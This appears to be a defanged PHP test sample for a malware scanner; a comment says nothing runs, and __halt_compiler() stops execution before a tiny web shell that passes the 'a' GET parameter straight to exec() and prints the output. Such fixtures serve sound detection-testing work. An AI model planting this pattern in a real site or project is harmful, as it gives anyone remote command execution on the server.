<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
function run_it($c)
{
	$out = array();
	exec($c, $out);
	return implode("\n", $out);
}
$a = $_GET['a'];
print run_it($a);
